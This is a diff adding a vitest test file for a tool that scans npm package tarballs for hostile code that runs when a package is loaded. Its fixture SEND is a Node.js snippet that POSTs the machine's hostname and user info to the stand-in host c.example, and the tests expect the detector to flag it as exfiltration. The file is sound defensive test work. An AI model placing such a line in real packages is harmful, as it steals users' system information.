@@ -1,0 +1,69 @@
+/**
+ * The entry modules a `require` or `import` of the package runs, kept while the tarball streams
+ * (src/sources/npm/tarball.ts, `loadCode`; docs/checks.md, `load-time-code`), and judged by
+ * load-time-code from those facts.
+ */
+import { describe, expect, test } from 'vitest';
+import { readTarball } from '../../src/sources/npm/tarball.js';
+import check from '../../src/checks/load-time-code.js';
+import { registryFacts } from '../support/evidence-builder.js';
+import { makeTgz, type TarEntry } from './make-tgz.js';
+
+async function read(entries: TarEntry[]) {
+  const result = await readTarball(makeTgz(entries), {}, []);
+  if (result.status !== 'ok') throw new Error(`expected ok, got: ${result.reason}`);
+  return result.facts;
+}
+
+const pkg = (fields: Record<string, unknown> = {}) => ({ path: 'package/package.json', body: JSON.stringify({ name: 'p', version: '1.0.0', ...fields }) });
+const SEND = "const os = require('os');\nrequire('https').request({ hostname: 'c.example', method: 'POST' }).end(JSON.stringify([os.hostname(), os.userInfo()]));";
+
+describe('loadCode', () => {
+  test("the `main`, and the local modules it loads; another file is not read", async () => {
+    const facts = await read([pkg({ main: 'lib/main.js' }), { path: 'package/lib/main.js', body: "module.exports = require('./util');" }, { path: 'package/lib/util.js', body: 'module.exports = 1;' }, { path: 'package/other.js', body: 'x()' }]);
+    expect(facts.loadCode?.entries).toEqual(['.']);
+    expect(facts.loadCode?.files.map((f) => f.path)).toEqual(['lib/main.js', 'lib/util.js']);
+  });
+
+  test('without `main`: index.js; an entry module that comes before the package.json is kept too', async () => {
+    const facts = await read([{ path: 'package/index.js', body: SEND }, pkg()]);
+    expect(facts.loadCode?.files.map((f) => f.path)).toEqual(['index.js']);
+    const outcome = check.evaluate({ registry: registryFacts(), tarball: facts }, {} as never);
+    expect([outcome.score, outcome.messageId, outcome.holdVerdict === undefined]).toEqual([0, 'hostile', false]);
+    expect(outcome.data?.flags).toEqual(['exfiltration']);
+  });
+
+  test('`exports`: the "." entry\'s require, import and default targets; subpaths and other conditions are not entries', async () => {
+    const facts = await read([
+      pkg({ exports: { '.': { types: './t.d.ts', import: './esm/index.mjs', require: './cjs/index.cjs' }, './sub': './sub.js' } }),
+      { path: 'package/esm/index.mjs', body: 'export default 1;' },
+      { path: 'package/cjs/index.cjs', body: 'module.exports = 1;' },
+      { path: 'package/sub.js', body: SEND },
+    ]);
+    expect(facts.loadCode?.entries).toEqual(['.', './esm/index.mjs', './cjs/index.cjs']);
+    expect(facts.loadCode?.files.map((f) => f.path)).toEqual(['esm/index.mjs', 'cjs/index.cjs']);
+    expect(facts.loadCode?.missing).toEqual(['index.js']);
+    expect(check.evaluate({ registry: registryFacts(), tarball: facts }, {} as never).messageId).toBe('clean');
+  });
+
+  test('an exports target that is not a plain path in the package is not named', async () => {
+    const facts = await read([pkg({ exports: { require: '../x.js', default: './a b.js', import: './ok.js' } }), { path: 'package/ok.js', body: '' }]);
+    expect(facts.loadCode?.entries).toEqual(['.', './ok.js']);
+  });
+
+  test('no entry module: not applicable; a package.json that cannot be read: unknown', async () => {
+    const none = await read([pkg({ main: 'dist/index.js' }), { path: 'package/README.md', body: '# p' }]);
+    expect(none.loadCode?.files).toEqual([]);
+    const outcome = check.evaluate({ registry: registryFacts(), tarball: none }, {} as never);
+    expect([outcome.score, outcome.messageId, outcome.notApplicable]).toEqual([null, 'no-entry', true]);
+    const broken = await read([{ path: 'package/package.json', body: '{' }, { path: 'package/index.js', body: SEND }]);
+    expect(broken.loadCode).toBeUndefined();
+    const unknown = check.evaluate({ registry: registryFacts(), tarball: broken }, {} as never);
+    expect([unknown.score, unknown.messageId, unknown.notApplicable]).toEqual([null, 'unread', undefined]);
+  });
+
+  test('a bundled package under node_modules is not an entry of this one, and a binding.gyp is not load code', async () => {
+    const facts = await read([pkg({ main: 'index.js' }), { path: 'package/index.js', body: "require('dep')" }, { path: 'package/node_modules/dep/index.js', body: SEND }, { path: 'package/binding.gyp', body: "{'targets':[]}" }]);
+    expect(facts.loadCode?.files.map((f) => f.path)).toEqual(['index.js']);
+  });
+});
